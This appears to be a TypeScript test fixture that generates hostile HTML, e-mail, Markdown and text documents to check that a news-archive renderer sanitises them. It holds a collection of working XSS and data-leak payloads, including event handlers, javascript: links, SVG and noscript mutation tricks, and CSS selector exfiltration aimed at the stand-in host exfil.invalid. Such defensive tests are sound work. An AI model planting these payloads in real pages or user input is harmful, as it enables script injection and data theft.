/**
 * Hostile documents, written here and generated into a temp folder by the test. Every payload
 * tries one thing the renderer must never do: run script (each would set window.__pwned or open
 * a dialog) or load something (each aims at exfil.invalid, a name that can never resolve).
 */

export interface HtmlPayload {
  label: string
  /** Markup placed in <head>. */
  head?: string
  /** Markup placed in <body>, between prose paragraphs. */
  body?: string
  /** Attributes of <body>. */
  bodyAttrs?: string
  /** Replaces the document's <title> (the code is still prefixed). */
  title?: string
}

const PWN = (id: string): string => `window.__pwned='${id}'`
const X = 'http://exfil.invalid'

export const HTML_PAYLOADS: readonly HtmlPayload[] = [
  { label: 'inline script', body: `<script>${PWN('script')}</script>` },
  { label: 'remote script', body: `<script src="${X}/s.js"></script>` },
  { label: 'module script import', body: `<script type="module">import '${X}/m.js'</script>` },
  { label: 'data URI script', body: `<script src="data:text/javascript,${PWN('data-script')}"></script>` },
  { label: 'img onerror', body: `<img src="x" onerror="${PWN('img-onerror')}">` },
  { label: 'body onload', bodyAttrs: `onload="${PWN('body-onload')}"` },
  { label: 'details ontoggle', body: `<details open ontoggle="${PWN('ontoggle')}"><summary>More</summary>Berth notes</details>` },
  { label: 'autofocus onfocus', body: `<input autofocus onfocus="${PWN('onfocus')}">` },
  { label: 'onmouseover on text', body: `<p onmouseover="${PWN('hover')}" onclick="${PWN('click')}">Hover over this harbour note.</p>` },
  { label: 'javascript link', body: `<p><a href="javascript:${PWN('js-link')}">Read the full statement</a></p>` },
  { label: 'entity-encoded javascript link', body: `<p><a href="&#106;ava&#x73;cript:${PWN('entity-link')}">Statement</a></p>` },
  { label: 'svg script', body: `<svg xmlns="http://www.w3.org/2000/svg"><script>${PWN('svg-script')}</script></svg>` },
  { label: 'svg onload', body: `<svg onload="${PWN('svg-onload')}"><circle r="4"/></svg>` },
  { label: 'svg animate href', body: `<svg><a><animate attributeName="href" values="javascript:${PWN('svg-animate')}"/><text y="10">Map</text></a></svg>` },
  { label: 'svg foreignObject', body: `<svg><foreignObject><iframe srcdoc="<script>parent.__pwned='fo'</script>"></iframe></foreignObject></svg>` },
  { label: 'math xlink', body: `<math><maction actiontype="statusline" xlink:href="javascript:${PWN('math')}">Tide table</maction></math>` },
  { label: 'iframe srcdoc', body: `<iframe srcdoc="<script>parent.__pwned='iframe-srcdoc'</script>"></iframe>` },
  { label: 'iframe remote', body: `<iframe src="${X}/frame.html"></iframe>` },
  { label: 'iframe javascript', body: `<iframe src="javascript:parent.__pwned='iframe-js'"></iframe>` },
  { label: 'object', body: `<object data="${X}/o.swf" type="application/x-shockwave-flash"></object>` },
  { label: 'embed', body: `<embed src="${X}/e.svg">` },
  { label: 'meta refresh', head: `<meta http-equiv="refresh" content="0;url=${X}/refresh">` },
  { label: 'base href', head: `<base href="${X}/">`, body: '<img src="relative.png">' },
  { label: 'style url()', head: `<style>body{background:url(${X}/bg.png)}</style>` },
  { label: 'style @import', head: `<style>@import url(${X}/i.css);</style>` },
  { label: 'inline style background-image', body: `<p style="background-image:url(${X}/p.png)">The quay is closed.</p>` },
  { label: 'css attribute-selector exfiltration', head: `<style>input[value^="a"]{background:url(${X}/leak-a)}</style>`, body: '<input value="analyst">' },
  { label: 'font-face', head: `<style>@font-face{font-family:x;src:url(${X}/f.woff2)}body{font-family:x}</style>` },
  { label: 'link stylesheet', head: `<link rel="stylesheet" href="${X}/x.css">` },
  { label: 'link prefetch', head: `<link rel="prefetch" href="${X}/prefetch">` },
  { label: 'link preconnect', head: `<link rel="preconnect" href="${X}"><link rel="dns-prefetch" href="${X}">` },
  { label: 'link icon', head: `<link rel="icon" href="${X}/favicon.ico">` },
  { label: 'remote image', body: `<img src="${X}/pixel.gif" width="1" height="1">` },
  { label: 'img srcset', body: `<img srcset="${X}/a.png 1x, ${X}/b.png 2x">` },
  { label: 'picture source', body: `<picture><source srcset="${X}/pic.webp"><img src="${X}/pic.jpg"></picture>` },
  { label: 'video poster', body: `<video poster="${X}/poster.jpg" src="${X}/v.mp4" autoplay></video><audio src="${X}/a.mp3" autoplay></audio>` },
  { label: 'form action', body: `<form action="${X}/post" method="post"><input name="q" value="x"><button formaction="${X}/b">Send</button></form>` },
  { label: 'anchor ping', body: `<p><a href="https://news.example/" ping="${X}/ping">Source</a></p>` },
  { label: 'noscript mutation', body: `<noscript><p title="</noscript><img src=x onerror=${PWN('mxss')}>"></p></noscript>` },
  { label: 'template content', body: `<template><img src=x onerror="${PWN('template')}"></template>` },
  { label: 'markup in title', title: `<img src=x onerror="${PWN('title')}">` },
  { label: 'javascript og:url', head: `<meta property="og:url" content="javascript:${PWN('og-url')}">` },
  { label: 'markup in author meta', head: `<meta name="author" content="<script>${PWN('author')}</script>">` },
]

/** Three paragraphs of plain news prose, different per document (exact duplicates are not imported). */
export function prose(n: number, label: string): string[] {
  return [
    `The harbour office in Kessling said on Monday that ferry berth ${n} would stay closed while inspectors checked the ${label} section of the north pier.`,
    `Crews worked through the night on berth ${n}, and the office expects to publish a full report on the repairs within ${n + 2} weeks.`,
    `Residents asked for a public meeting about the closure of berth ${n}, which has disrupted deliveries to the islands since the storm.`,
  ]
}

export function code(n: number): string {
  return `HX${String(n).padStart(2, '0')}`
}

export function htmlDocument(n: number, p: HtmlPayload): string {
  const [a, b, c] = prose(n, p.label)
  const title = `Harbour report ${code(n)} ${p.title ?? p.label}`
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title>${p.head ?? ''}</head>
<body ${p.bodyAttrs ?? ''}><article><h1>Harbour report ${code(n)} ${p.label}</h1>
<p>${a}</p>${p.body ?? ''}<p>${b}</p><p>${c}</p></article></body></html>`
}

/** An e-mail whose body is HTML (script, handlers, remote image, javascript link): 4 payloads. */
export function emlDocument(n: number): { text: string; payloads: number } {
  const [a, b, c] = prose(n, 'e-mail')
  const text = `From: Wire Desk <desk@news.example>
To: analyst@example.org
Subject: Harbour report ${code(n)} e-mail
Date: Tue, 05 Mar 2024 10:00:00 +0000
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><body onload="${PWN('eml-onload')}"><p>${a}</p><script>${PWN('eml-script')}</script>
<p>${b}</p><img src="${X}/eml.gif" onerror="${PWN('eml-img')}"><p><a href="javascript:${PWN('eml-link')}">${c}</a></p></body></html>
`
  return { text, payloads: 4 }
}

/** Markdown with raw HTML, a javascript: link and a remote image: 5 payloads. */
export function markdownDocument(n: number): { text: string; payloads: number } {
  const [a, b, c] = prose(n, 'markdown')
  const text = `# Harbour report ${code(n)} markdown

${a}

<script>${PWN('md-script')}</script>

${b} <img src=x onerror="${PWN('md-img')}">

[Read more](javascript:${PWN('md-link')}) and ![chart](${X}/md.png)

<iframe src="${X}/md-frame"></iframe>

${c}
`
  return { text, payloads: 5 }
}

/** Plain text that carries HTML source: it must be shown as those characters, never parsed. */
export const TXT_MARKUP = `<script>${PWN('txt-script')}</script><img src=x onerror="${PWN('txt-img')}">`
export function textDocument(n: number): { text: string; payloads: number } {
  const [a, b, c] = prose(n, 'plain text')
  return { text: `Harbour report ${code(n)} plain text\n\n${a}\n\n${TXT_MARKUP}\n\n${b}\n\n${c}\n`, payloads: 2 }
}

/** Written straight into stored fields through the API, past every importer: the renderer alone must hold. */
export const FORCED = {
  title: `Forced <img src=x onerror="${PWN('forced-title')}"> title`,
  outlet: `<script>${PWN('forced-outlet')}</script>`,
  author: `<svg onload="${PWN('forced-author')}"></svg>`,
  url: `javascript:${PWN('forced-url')}`,
  note: `<iframe srcdoc="<script>parent.__pwned='forced-note'</script>"></iframe><b onclick="${PWN('forced-note-click')}">bold</b>`,
} as const
